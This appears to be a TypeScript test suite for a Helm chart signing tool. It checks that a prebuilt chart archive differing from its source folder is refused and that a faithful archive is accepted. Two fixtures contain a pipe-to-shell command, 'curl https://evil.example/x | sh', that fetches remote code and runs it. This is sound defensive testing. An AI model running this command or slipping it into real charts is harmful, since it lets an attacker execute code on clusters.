// A repository ships `charts/devapp/` and `charts/devapp-1.2.3.tgz`, the archive built from something
// else than the folder: signing the chart (what Sign Chart and `helm-prov sign <chart-dir>` run) must
// refuse it, whatever the difference hides in — a template, an extra file, a file the source's
// .helmignore leaves out, a subchart archive, Chart.yaml metadata, an added subchart — and an archive
// that is a link to a device is refused unread. An archive of the very source, laid out as no packager
// would, is accepted. Nothing is ever written.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { archiveForChart } from '../../../server/src/provenance/signSource';
import type { HostileCase, Observation } from '../harness';
import { chartEntries, gzip, tar, type TarEntry } from '../../support/tar';

const NAME = 'devapp';
const ARCHIVE = `${NAME}-1.2.3.tgz`;
const LIB = [
  { name: 'lib/Chart.yaml', data: 'apiVersion: v2\nname: lib\nversion: 0.1.0\n' },
  { name: 'lib/templates/cm.yaml', data: 'kind: ConfigMap\n' },
];

const charts = (dir: string): string => path.join(dir, 'charts');

/** Writes the clean source `charts/devapp/` (from the same entries as chartEntries, plus `extra`). */
function writeSource(dir: string, extra: TarEntry[] = []): void {
  for (const entry of [...chartEntries(NAME), ...extra]) {
    const file = path.join(charts(dir), entry.name.toString());
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, entry.data ?? '');
  }
}

function writeArchive(dir: string, entries: TarEntry[]): void {
  fs.writeFileSync(path.join(charts(dir), ARCHIVE), gzip(tar(entries)));
}

async function signChartRun(dir: string): Promise<Observation> {
  const chosen = await archiveForChart(path.join(charts(dir), NAME), charts(dir));
  if (!chosen.ok) return { code: chosen.error.code, message: chosen.error.message };
  return { code: 'ok', details: { origin: chosen.value.origin.kind } };
}

/** Refused naming `named`, and nothing written next to the archive. */
function refusedNaming(named: RegExp): HostileCase['check'] {
  return (o, dir) => {
    assert.match(o.message ?? '', named);
    assert.deepEqual(fs.readdirSync(charts(dir)).sort(), [NAME, ARCHIVE], 'no .prov, no new archive, no temp file');
  };
}

function differsCase(name: string, source: TarEntry[], archive: TarEntry[], named: RegExp): HostileCase {
  return {
    name,
    async setup(dir) {
      writeSource(dir, source);
      writeArchive(dir, archive);
    },
    run: signChartRun,
    check: refusedNaming(named),
  };
}

const subchartArchive = (entries: TarEntry[]): Buffer => gzip(tar(entries));

export const signSourceCases: HostileCase[] = [
  differsCase('sign-prebuilt-archive-modified-template_fail', [],
    chartEntries(NAME).map((e) => (e.name === `${NAME}/templates/cm.yaml` ? { ...e, data: 'kind: Job\nspec:\n  command: ["sh", "-c", "curl https://evil.example/x | sh"]\n' } : e)),
    /1 file differs: templates\/cm\.yaml \(differs\)/),
  differsCase('sign-prebuilt-archive-extra-file_fail', [],
    [...chartEntries(NAME), { name: `${NAME}/files/payload.sh`, data: 'curl https://evil.example/x | sh\n' }],
    /files\/payload\.sh \(only in the archive\)/),
  // The file is in the folder too: a comparison with the folder's raw files would find it equal.
  differsCase('sign-prebuilt-archive-file-the-source-ignores_fail',
    [{ name: `${NAME}/.helmignore`, data: 'templates/hook.yaml\n' }, { name: `${NAME}/templates/hook.yaml`, data: 'kind: Job # runs at install\n' }],
    [...chartEntries(NAME), { name: `${NAME}/.helmignore`, data: 'templates/hook.yaml\n' }, { name: `${NAME}/templates/hook.yaml`, data: 'kind: Job # runs at install\n' }],
    /templates\/hook\.yaml \(only in the archive\)/),
  differsCase('sign-prebuilt-archive-modified-subchart-archive_fail',
    [{ name: `${NAME}/charts/lib-0.1.0.tgz`, data: subchartArchive(LIB) }],
    [...chartEntries(NAME), LIB[0], { name: 'lib/templates/cm.yaml', data: 'kind: Secret\n' }].map((e) => (e.name.toString().startsWith('lib/') ? { ...e, name: `${NAME}/charts/${e.name}` } : e)),
    /charts\/lib\/templates\/cm\.yaml \(differs\)/),
  differsCase('sign-prebuilt-archive-chart-yaml-metadata_fail', [],
    chartEntries(NAME, '1.2.3', `apiVersion: v2\nname: ${NAME}\nversion: 1.2.3\nkubeVersion: ">=1.0.0-0"\n`),
    /Chart\.yaml \(differs\)/),
  differsCase('sign-prebuilt-archive-added-subchart_fail', [],
    [...chartEntries(NAME), ...LIB.map((e) => ({ ...e, name: `${NAME}/charts/${e.name}` }))],
    /charts\/lib\/Chart\.yaml \(only in the archive\), charts\/lib\/templates\/cm\.yaml \(only in the archive\)/),
  {
    name: 'sign-prebuilt-archive-links-to-dev-zero_fail',
    async setup(dir) {
      writeSource(dir);
      fs.symlinkSync('/dev/zero', path.join(charts(dir), ARCHIVE));
    },
    run: signChartRun,
    check: refusedNaming(/not a regular file/),
  },
  {
    // Chart.yaml unsorted, directory entries, times: laid out as no packager would, the same files.
    name: 'sign-prebuilt-archive-from-source',
    async setup(dir) {
      writeSource(dir);
      writeArchive(dir, [
        { name: `${NAME}/`, type: '5', mtime: 1_600_000_000 },
        ...chartEntries(NAME, '1.2.3', `version: 1.2.3\nname: ${NAME}\napiVersion: v2\n`).reverse().map((e) => ({ ...e, mtime: 1_600_000_000 })),
      ]);
    },
    run: signChartRun,
    check(o, dir) {
      assert.deepEqual(o.details, { origin: 'matches-source' });
      assert.deepEqual(fs.readdirSync(charts(dir)).sort(), [NAME, ARCHIVE], 'signed as it is, not replaced');
    },
  },
];
